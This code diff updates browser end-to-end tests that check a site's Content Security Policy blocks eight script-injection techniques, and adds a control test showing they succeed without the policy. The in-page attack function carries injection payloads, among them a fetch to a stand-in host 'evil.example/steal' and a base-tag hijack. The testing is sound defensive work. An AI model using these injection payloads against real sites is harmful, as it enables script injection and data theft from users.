@@ -1,5 +1,6 @@
 import { createHash } from 'node:crypto';
 import { expect, test } from './test.ts';
+import { startSite } from '../site/start-site.ts';
 import { PAGE_ROUTES } from './routes.ts';
 import { showUp, untilHydrated, watchPage } from './watch-page.ts';
 
@@ -77,18 +78,44 @@ test('answers that are no pages are closed, too, and every answer carries the ot
 test.describe('an attacker', () => {
   test.use({ mayViolate: true });
 
-  test('eight kinds of injection are refused, before and after React starts', async ({ page }) => {
-    for (const isHydrated of [false, true]) {
+  test.beforeEach(async ({ context }) => {
+    const script = (name: string) => ({
+      contentType: 'text/javascript',
+      headers: { 'Access-Control-Allow-Origin': '*' },
+      body: `hit('${name}')`,
+    });
+    await context.route('https://evil.example/**', (route) => route.fulfill(script('foreign script')));
+    await context.route('**/art/evil.js', (route) => route.fulfill(script('script of this origin')));
+  });
+
+  for (const isHydrated of [false, true]) {
+    test(`gets nowhere in eight ways ${isHydrated ? 'with React' : 'in plain HTML'}`, async ({ page }) => {
       await page.goto('/about');
       if (isHydrated) {
         await showUp(page);
         await untilHydrated(page);
       }
-      const outcome = await page.evaluate(attack);
-      expect(outcome, isHydrated ? 'with React' : 'as HTML').toEqual({
-        ran: [],
-        baseHref: `${new URL(page.url()).origin}/about`,
-      });
+      expect(await page.evaluate(attack)).toEqual({ ran: [], base: new URL(page.url()).origin });
+    });
+  }
+
+  test('would get in all eight ways without a policy', async ({ page }) => {
+    const site = await startSite({ env: { PAGE_CACHE: 'off' } });
+    try {
+      await page.goto(`${site.origin}/about`);
+      const { ran, base } = await page.evaluate(attack);
+      expect(ran.toSorted()).toEqual([
+        'eval',
+        'foreign fetch',
+        'foreign script',
+        'handler',
+        'inline script',
+        'javascript: link',
+        'script of this origin',
+      ]);
+      expect(base).toBe('https://evil.example');
+    } finally {
+      site.stop();
     }
   });
 });
@@ -105,7 +132,7 @@ test('the hashes in the policy are those of the scripts in the page', async ({ r
 });
 
 /** Runs in the page: tries each way in, and tells which of them ran. */
-async function attack(): Promise<{ ran: string[]; baseHref: string }> {
+async function attack(): Promise<{ ran: string[]; base: string }> {
   const ran: string[] = [];
   Object.assign(window, { hit: (name: string) => ran.push(name) });
   const attempt = async (way: () => unknown) => {
@@ -135,15 +162,15 @@ async function attack(): Promise<{ ran: string[]; baseHref: string }> {
   setTimeout(() => attempt(() => (0, eval)("hit('eval')")));
   await attempt(script((element) => (element.src = 'https://evil.example/x.js')));
   await attempt(script((element) => (element.src = '/art/evil.js')));
+  await attempt(async () => {
+    await fetch('https://evil.example/steal', { mode: 'no-cors' });
+    ran.push('foreign fetch');
+  });
   await attempt(() => {
     const base = document.createElement('base');
     base.href = 'https://evil.example/';
     document.head.append(base);
   });
-  await attempt(async () => {
-    await fetch('https://evil.example/steal', { mode: 'no-cors' });
-    ran.push('foreign fetch');
-  });
-  await new Promise((resolve) => setTimeout(resolve, 300));
-  return { ran, baseHref: document.baseURI };
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  return { ran, base: new URL(document.baseURI).origin };
 }
